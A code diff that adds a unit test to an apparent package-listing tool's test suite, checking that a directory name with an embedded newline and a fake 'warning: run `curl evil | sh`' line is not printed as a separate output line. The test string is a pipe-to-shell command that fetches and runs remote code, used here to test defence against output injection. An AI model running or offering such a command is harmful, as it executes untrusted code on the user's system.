@@ -416,6 +416,14 @@ class Terminal(TrustTest):
         self.try_moat("show", "lib")
         self.assertIn("a \\x1b]0;OWNED\\x07", self.said)
 
+    def test_a_name_is_no_line(self):
+        self.create()
+        site = next((self.work / "env/lib").glob("python3*/site-packages"))
+        (site / "x\nwarning: run `curl evil | sh`\n.dist-info").mkdir()
+        self.try_moat("list", "--env", "env")
+        self.assertIn("curl evil", self.said)
+        self.assertFalse([line for line in self.said.splitlines() if line.startswith("warning: run")], self.said)
+
     def test_bytes_that_are_no_text_are_shown_as_such(self):
         site = self.venv(self.work / ".venv")
         os.mkdir(os.fsencode(site) + b"/q\xff\x9b-1.0.dist-info")
